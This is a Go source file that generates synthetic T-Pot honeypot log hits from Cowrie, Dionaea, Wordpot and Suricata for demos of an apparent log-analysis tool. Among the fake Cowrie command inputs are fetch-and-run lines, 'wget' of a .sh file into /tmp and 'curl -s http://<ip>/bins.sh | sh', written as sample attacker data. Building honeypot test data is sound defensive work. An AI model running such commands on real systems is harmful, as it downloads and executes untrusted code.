// Package seed generates synthetic T-Pot hits for local runs and demos.
package seed

import (
	"encoding/json"
	"fmt"
	"strings"
	"time"

	"github.com/brianvoe/gofakeit/v6"

	"honeytrail/pkg/models"
)

// Config controls the generated traffic.
type Config struct {
	Sessions int
	Start    time.Time
	Span     time.Duration
	Seed     int64
	SensorIP string
}

var typeTags = map[models.SensorKind]string{
	models.SensorCowrie:   "Cowrie",
	models.SensorDionaea:  "Dionaea",
	models.SensorWordpot:  "Wordpot",
	models.SensorSuricata: "Suricata",
}

// Generator emits search hits shaped like the T-Pot logstash index. Sessions
// rotate through the sensors and are spread evenly over the span so that
// consecutive sessions of one sensor never share a grouping window.
type Generator struct {
	f   *gofakeit.Faker
	cfg Config
	seq int
}

// NewGenerator creates a generator. The same seed yields the same hits.
func NewGenerator(cfg Config) *Generator {
	if cfg.Sessions <= 0 {
		cfg.Sessions = 20
	}
	if cfg.Span <= 0 {
		cfg.Span = 24 * time.Hour
	}
	if cfg.Start.IsZero() {
		cfg.Start = time.Now().UTC().Add(-cfg.Span)
	}
	if cfg.SensorIP == "" {
		cfg.SensorIP = "10.0.0.5"
	}
	return &Generator{f: gofakeit.New(cfg.Seed), cfg: cfg}
}

// Hits returns every generated hit as an encoded search hit.
func (g *Generator) Hits() ([][]byte, error) {
	step := g.cfg.Span / time.Duration(g.cfg.Sessions)
	var out [][]byte
	for i := 0; i < g.cfg.Sessions; i++ {
		kind := models.SensorKinds[i%len(models.SensorKinds)]
		start := g.cfg.Start.Add(time.Duration(i) * step)
		for _, src := range g.session(kind, start) {
			hit, err := g.wrap(src)
			if err != nil {
				return nil, err
			}
			out = append(out, hit)
		}
	}
	return out, nil
}

func (g *Generator) session(kind models.SensorKind, start time.Time) []map[string]interface{} {
	attacker := g.f.IPv4Address()
	srcPort := g.f.Number(1024, 65535)
	n := g.f.Number(2, 6)

	events := make([]map[string]interface{}, 0, n)
	at := start
	for i := 0; i < n; i++ {
		var ev map[string]interface{}
		switch kind {
		case models.SensorCowrie:
			ev = g.cowrie(i, n)
		case models.SensorDionaea:
			ev = g.dionaea()
		case models.SensorWordpot:
			ev = g.wordpot()
		default:
			ev = g.suricata()
		}
		ev["type"] = typeTags[kind]
		ev["@timestamp"] = at.UTC().Format(time.RFC3339Nano)
		ev["src_ip"] = attacker
		ev["src_port"] = srcPort
		ev["t-pot_ip_int"] = g.cfg.SensorIP
		events = append(events, ev)
		at = at.Add(time.Duration(g.f.Number(1, 20)) * time.Second)
	}

	if kind == models.SensorCowrie {
		session := fmt.Sprintf("%012x", g.f.Number(1, 1<<30))
		for _, ev := range events {
			ev["session"] = session
		}
	}
	return events
}

func (g *Generator) cowrie(i, n int) map[string]interface{} {
	ev := map[string]interface{}{"dest_port": 22, "protocol": g.f.RandomString([]string{"ssh", "telnet"})}
	switch {
	case i == 0:
		ev["eventid"] = "cowrie.session.connect"
		ev["message"] = "New connection"
	case i == 1:
		user, pass := g.f.RandomString([]string{"root", "admin", "ubuntu", "pi"}), g.f.Password(true, false, true, false, false, 8)
		ev["eventid"] = "cowrie.login.success"
		ev["message"] = fmt.Sprintf("login attempt [%s/%s] succeeded", user, pass)
	case i == n-1 && n > 3:
		name := g.f.Word() + ".sh"
		ev["eventid"] = "cowrie.session.file_download"
		ev["url"] = fmt.Sprintf("http://%s/%s", g.f.DomainName(), name)
		ev["outfile"] = "var/lib/cowrie/downloads/" + name
	default:
		input := g.f.RandomString([]string{
			"uname -a",
			"cat /proc/cpuinfo",
			fmt.Sprintf("wget http://%s/%s.sh -O /tmp/%s", g.f.DomainName(), g.f.Word(), g.f.Word()),
			fmt.Sprintf("curl -s http://%s/bins.sh | sh", g.f.IPv4Address()),
		})
		ev["eventid"] = "cowrie.command.input"
		ev["input"] = input
		ev["message"] = "CMD: " + input
	}
	return ev
}

func (g *Generator) dionaea() map[string]interface{} {
	proto := g.f.RandomString([]string{"smbd", "mssqld", "httpd", "ftpd"})
	ports := map[string]int{"smbd": 445, "mssqld": 1433, "httpd": 80, "ftpd": 21}
	return map[string]interface{}{
		"dest_port": ports[proto],
		"connection": map[string]interface{}{
			"protocol":  proto,
			"type":      "accept",
			"transport": "tcp",
		},
	}
}

func (g *Generator) wordpot() map[string]interface{} {
	return map[string]interface{}{
		"dest_port":  80,
		"url":        g.f.RandomString([]string{"/wp-login.php", "/xmlrpc.php", "/wp-admin/", "/wp-content/plugins/" + g.f.Word() + "/readme.txt"}),
		"user_agent": g.f.UserAgent(),
	}
}

var signatures = []struct {
	id  int
	msg string
}{
	{2001219, "ET SCAN Potential SSH Scan"},
	{2010935, "ET SCAN Suspicious inbound to MSSQL port 1433"},
	{2024897, "ET USER_AGENTS Go HTTP Client User-Agent"},
	{2402000, "ET DROP Dshield Block Listed Source"},
}

func (g *Generator) suricata() map[string]interface{} {
	sig := signatures[g.f.Number(0, len(signatures)-1)]
	return map[string]interface{}{
		"dest_port":  g.f.RandomString([]string{"22", "80", "445", "1433"}),
		"proto":      "TCP",
		"event_type": "alert",
		"alert": map[string]interface{}{
			"signature":    sig.msg,
			"signature_id": sig.id,
			"severity":     g.f.Number(1, 3),
			"category":     "Attempted Information Leak",
		},
	}
}

func (g *Generator) wrap(source map[string]interface{}) ([]byte, error) {
	g.seq++
	ts, _ := source["@timestamp"].(string)
	hit := map[string]interface{}{
		"_index":  "logstash-" + strings.ReplaceAll(ts[:10], "-", "."),
		"_id":     fmt.Sprintf("seed-%06d", g.seq),
		"_source": source,
	}
	return json.Marshal(hit)
}
